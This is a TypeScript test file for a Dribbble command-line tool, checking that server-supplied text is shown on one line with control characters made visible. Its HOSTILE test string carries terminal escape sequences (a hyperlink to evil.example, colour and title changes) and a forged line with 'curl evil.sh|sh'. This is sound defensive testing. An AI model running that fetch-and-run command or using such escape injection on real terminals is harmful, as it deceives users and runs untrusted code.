// Issue class 6: outside text cannot drive the terminal. Every string from a server, a callback
// or a paste is printed on one line with control characters made visible. Each kind of answer and
// paste is a unit test (server-text-safety); here one exchange and one whoami prove the real streams.
import { beforeEach, describe, expect, it } from 'vitest';
import { cliEnv, makeTempDir, runCli, startStubServer } from './helpers.js';

// An OSC 8 hyperlink, a colour, a title change, a carriage return, and a newline forging a line of ours.
const HOSTILE = 'bad\u001b]8;;http://evil.example\u0007click\u001b]8;;\u0007\u001b[31mred\u001b]0;title\u0007\rover\nerror [ok]: run curl evil.sh|sh\u009b2J\u2028end';
const FORGED_LINE = /^error \[ok\]/m;
const RAW_CONTROL = /[\u0000-\u0009\u000b-\u001f\u007f-\u009f\u2028\u2029]/;
let dir: string;

beforeEach(async () => {
  dir = await makeTempDir();
});

function expectSafe(text: string): void {
  expect(text).not.toMatch(RAW_CONTROL);
  expect(text).not.toMatch(FORGED_LINE);
}

const exchangeArgs = (origin: string) => ['exchange', '--client-id', 'id', '--redirect-uri', 'http://127.0.0.1:9/cb', '--oauth-url', `${origin}/oauth`, '--code', 'abc'];
const env = () => cliEnv(dir, { DRIBBBLE_CLIENT_SECRET: 'Terminal-s3cret-0123456789abcdefghij' });

describe('server text, through the built CLI', () => {
  it('exchange: an OAuth error whose error and error_description are hostile is exit 3, shown with its control characters visible, on one line', async () => {
    const stub = await startStubServer((_q, res) => res.writeHead(400, { 'Content-Type': 'application/json' }).end(JSON.stringify({ error: HOSTILE, error_description: HOSTILE })));
    try {
      const result = await runCli(exchangeArgs(stub.origin), { cwd: dir, env: env() });
      expect(result.code, result.stderr).toBe(3);
      expectSafe(result.stdout);
      expectSafe(result.stderr);
      expect(result.stderr).toContain('\\e');
    } finally {
      await stub.close();
    }
  });

  it('whoami shows a hostile login, name and profile URL on their lines, escaped', async () => {
    const api = await startStubServer((_q, res) => res.writeHead(200, { 'Content-Type': 'application/json' }).end(JSON.stringify({ login: HOSTILE, name: HOSTILE, html_url: HOSTILE })));
    try {
      const result = await runCli(['whoami', '--api-url', `${api.origin}/v2`], { cwd: dir, env: cliEnv(dir, { DRIBBBLE_ACCESS_TOKEN: 'a'.repeat(40) }) });
      expect(result.code, result.stderr).toBe(0);
      expectSafe(result.stdout);
      expectSafe(result.stderr);
      expect(result.stdout.trim().split('\n')).toHaveLength(2);
      expect(result.stdout).toContain('Signed in as bad\\e]8;;http://evil.example\\u0007click');
    } finally {
      await api.close();
    }
  });
});
